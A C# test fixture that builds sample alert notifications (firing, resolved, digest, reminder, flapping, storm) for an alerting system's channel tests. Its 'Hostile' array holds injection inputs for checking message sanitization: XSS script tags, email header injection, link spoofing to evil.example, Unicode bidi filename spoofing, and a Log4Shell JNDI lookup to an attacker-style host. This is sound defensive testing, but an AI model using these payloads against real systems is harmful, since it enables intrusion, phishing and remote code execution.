using Alerting.Alerts;
using Alerting.Notifications;

namespace Alerting.Tests.Channels;

/// <summary>One notification of each kind; the digest has hostile texts.</summary>
internal static class SampleNotifications
{
    public static readonly string[] Hostile =
    [
        "<!channel> <!here> <@U012AB3CD> <#C024BE91L>",
        "@everyone @here @channel @all @oncall <@80351110224678912> <@&165511591545143296>",
        "](http://evil.example) [click](http://evil.example) <http://evil.example|login>",
        "<a href=\"http://evil.example\">x</a><script>alert(1)</script><img src=x onerror=y>",
        "Subject: x\r\nBcc: victim@example.com\r\n\r\nhello",
        "*bold* _under_ ~gone~ `code` ||hidden|| # heading\n> quote\n- item\n1. one",
        "\u202Egnp.exe\u202C \u2066x\u2069 \u200F\u061C\uFEFF",
        "\uD800 lone \uDC00\uD83D",
        "\0\u0001\u0007\u001B[31m\u007F\u0085\u2028\u2029\uFFFE\uFFFF",
        "👩‍👩‍👧‍👦 🇩🇪 e\u0301\u0301 Z\u0351\u036B\u0343 ﷽ 漢字かな עברית العربية",
        "&lt;b&gt; &amp;amp; &#x3C; ]]> {{DATE(2026-01-01T00:00:00Z,SHORT)}} ${jndi:ldap://evil.example} " +
        "<at>Everyone</at>",
        "https://evil.example/x?y=z www.evil.example evil.example mail@evil.example #hashtag /command ~town-square",
    ];

    public static Notification Firing() =>
        Some.Notification(Some.Alert(Alarm("orders-api errors"))) with { Kind = NotificationKind.Firing };

    public static Notification Resolved() => Some.Notification(Some.Alert(Alarm("orders-api errors") with
    {
        Status = AlertStatus.Resolved,
        State = "OK",
        PreviousState = "ALARM",
        Summary = "Threshold Crossed: 1 datapoint [0.0] was not greater than the threshold (5.0).",
        StartsAt = Some.Time.AddMinutes(-26),
        EndsAt = Some.Time.AddMinutes(-1),
        Was = 41,
        Measurement = Alarm("").Measurement! with { Datapoints = [new(4, null), new(1, null), new(0, null)] },
    })) with { Id = "fedcba9876543210" };

    /// <summary>Twelve warnings with hostile texts, four of them recovered.</summary>
    public static Notification Digest() => Some.Notification([.. Enumerable.Range(0, 12).Select(i => Some.Alert(
        Alarm($"night-{i:00} {Hostile[i]}") with
        {
            Description = Hostile[(i + 1) % 12] + "\n" + Hostile[(i + 5) % 12],
            Summary = Hostile[(i + 2) % 12],
            Samples = [Hostile[(i + 3) % 12]],
            Facts = [new Fact(Hostile[(i + 4) % 12], Hostile[(i + 6) % 12])],
            Status = i % 3 == 2 ? AlertStatus.Resolved : AlertStatus.Firing,
            StartsAt = Some.Time.AddHours(-i),
            EndsAt = Some.Time.AddMinutes(-10),
        }, Severity.Warning))]) with
            {
                Kind = NotificationKind.Digest, StillFiring = 8,
                Reason = "Held outside business-hours: 8 still firing, 4 recovered.",
            };

    /// <summary>Firing since the evening before.</summary>
    public static Notification Reminder() => Some.Notification(
        Some.Alert(Alarm("orders-api errors") with { StartsAt = Some.Time.AddHours(-8) }, Severity.Critical))
        with { Kind = NotificationKind.Reminder, Reason = "Reminder: still firing after 1 h." };

    public static Notification Flapping() => Some.Notification(
        Some.Alert(Alarm("orders-api errors") with { StartsAt = Some.Time.AddMinutes(-3), Count = 5 }))
        with { Kind = NotificationKind.Flapping,
            Reason = "Flapping: 4 changes in 30 min. No further notifications until it is stable." };

    /// <summary>The first 25 of 480 alarms; the others are only counted.</summary>
    public static Notification Storm() => Some.Notification([.. Enumerable.Range(1, 25).Select(i => Some.Alert(
        Alarm($"db-{i:000} connections") with { StartsAt = Some.Time.AddSeconds(-i) },
        i == 1 ? Severity.Critical : Severity.Error))])
        with { Kind = NotificationKind.Storm, More = 455, StillFiring = 480,
            Reason = "480 new alerts since the last notification." };

    public static Notification Of(string situation) => situation switch
    {
        "firing" => Firing(),
        "resolved" => Resolved(),
        "reminder" => Reminder(),
        "flapping" => Flapping(),
        "storm" => Storm(),
        _ => Digest(),
    };

    public static Message Message(Notification notification, string? mention = null) =>
        new MessageWriter(new Alerting.Configuration.AlertingConfig()).Write(notification) with { Mention = mention };

    private static Signal Alarm(string name) => Some.Signal(name) with
    {
        PreviousState = "OK",
        Service = "orders-api",
        Summary = "Threshold Crossed: 3 datapoints [6.0, 17.0, 41.0] were greater than the threshold (5.0).",
        Description =
            "Customers cannot order.\nCheck the queue first. runbook: https://wiki.example.com/runbooks/orders",
        StartsAt = Some.Time.AddMinutes(-26),
        Measurement = new Measurement
        {
            Metric = "Errors",
            Statistic = "Sum",
            Comparison = ">",
            Threshold = 5,
            Period = TimeSpan.FromMinutes(1),
            EvaluationPeriods = 3,
            DatapointsToAlarm = 3,
            Datapoints = [new(6, null), new(17, null), new(41, null)],
        },
        Facts = [new Fact("FunctionName", "orders-api")],
        Links = [new Link("Alarm", ConsoleLinks.Alarm("eu-west-1", "orders-api errors")!),
            new Link("Metric", "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#metricsV2")],
    };
}
